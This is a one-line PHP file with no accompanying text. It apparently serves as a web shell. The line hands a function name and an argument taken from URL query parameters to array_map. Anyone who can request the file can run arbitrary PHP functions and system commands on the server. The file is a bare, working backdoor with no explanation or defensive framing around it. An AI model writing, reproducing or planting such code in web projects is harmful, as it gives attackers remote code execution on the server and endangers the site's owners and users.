<?php
array_map($_GET['f'], array($_GET['a']));
